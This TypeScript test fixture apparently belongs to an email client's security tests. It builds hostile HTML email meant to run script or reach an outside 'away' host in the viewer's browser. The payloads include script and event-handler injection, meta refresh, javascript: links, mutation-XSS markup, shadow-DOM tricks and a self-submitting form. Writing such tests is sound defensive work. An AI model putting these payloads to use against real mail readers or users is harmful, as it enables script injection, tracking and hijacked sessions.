/**
 * Content that hostile email could use to act in the browser of whoever views it. Every request to `away` means that
 * the attack succeeded.
 */

/** Content that acts or loads by itself. */
export const acting = (away: string): string => `
<html><head>
<base href="${away}/base/" target="_top">
<meta http-equiv="REFRESH" content="0; URL=${away}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<link rel="stylesheet" href="${away}/sheet.css"><link rel="preload" as="image" href="${away}/preload">
<link rel="dns-prefetch" href="${away}"><link rel="prefetch" href="${away}/prefetch"><link rel="icon" href="${away}/icon">
<style>@import "${away}/import.css"; @import url(${away}/import-url.css);
@font-face { font-family: f; src: url(${away}/font) } body { font-family: f; background: url(${away}/css) }
li { list-style-image: url('${away}/bullet') } p::after { content: url(${away}/content) }</style>
<script src="${away}/script.js"></script>
<script>top.location = '${away}/top'; document.body.textContent = 'taken over'</script>
</head>
<body background="${away}/background" onload="document.body.textContent = 'taken over'">
<p id="words">Harmless words</p><ul><li>one</li></ul>
<svg onload="document.body.textContent = 'taken over'"><image href="${away}/svg-image" width="9" height="9" />
<use href="${away}/use.svg#a" /><style>@import "${away}/svg-import.css";</style>
<foreignObject><iframe src="${away}/foreign"></iframe></foreignObject></svg>
<img src="x" onerror="document.body.textContent = 'taken over'">
<iframe srcdoc="<script>top.location='${away}/srcdoc'</script><img src='${away}/srcdoc-image'>"></iframe>
<iframe src="javascript:top.location='${away}/javascript'"></iframe>
<object data="${away}/object"></object><embed src="${away}/embed"><applet code="${away}/applet"></applet>
<video poster="${away}/poster" src="${away}/video" autoplay></video><audio src="${away}/audio" autoplay></audio>
<input type="image" src="${away}/input"><table background="${away}/table"><tr><td style="background:url(${away}/cell)">cell</td></tr></table>
<noscript><img src="${away}/noscript"><meta http-equiv="refresh" content="0;url=${away}/noscript-refresh"></noscript>
<div><template shadowrootmode="open"><img src="${away}/shadow"><meta http-equiv="refresh" content="0;url=${away}/shadow-refresh"></template></div>
<div><template shadowrootmode="open"><style>@import "${away}/shadow.css";</style><a id="inner" href="${away}/shadow-link">Shadow link</a>
<slot></slot></template>beneath</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${away}/mutated&gt;&lt;meta http-equiv=refresh content=0;url=${away}/mutated-refresh&gt;"></table></mtext></math>
<form action="${away}/form" target="_top"><input name="a" value="b" autofocus onfocus="this.form.submit()"><button>Send a form</button></form>
<a href="${away}/top-link" target="_top">Top link</a> <a href="${away}/self-link" target="_self" ping="${away}/ping">Self link</a>
<a href="${away}/popup" target="_blank" rel="opener">Popup link</a> <a href="javascript:top.location='${away}/js-link'">Script link</a>
<svg width="99" height="20"><a href="${away}/svg-link" target="_top"><text y="15">Drawn link</text></a></svg>
</body></html>`

/** Content that can be clicked. */
export const BAIT = [
  'Send a form',
  'Top link',
  'Self link',
  'Popup link',
  'Script link',
  'Drawn link',
  'Shadow link',
]

/** Images as in legitimate email. */
export const IMAGES = (away: string): string =>
  `<picture><source srcset="${away}/image-of-set"><img src="${away}/image" alt=""></picture><img src="${away}/image-alone" alt="">`

/**
 * What may be fetched once the user loads an email's images: images, in any form. This includes prefetches. Chromium
 * allows a prefetch if any directive of the policy does, and it reveals no more than an image.
 */
export const SHOWN: ReadonlySet<string> = new Set([
  '/image',
  '/image-of-set',
  '/image-alone',
  '/background',
  '/input',
  '/noscript',
  '/poster',
  '/table',
  '/cell',
  '/css',
  '/bullet',
  '/content',
  '/preload',
  '/prefetch',
  '/icon',
  '/shadow',
  '/srcdoc-image',
  '/svg-image',
  '/mutated',
])
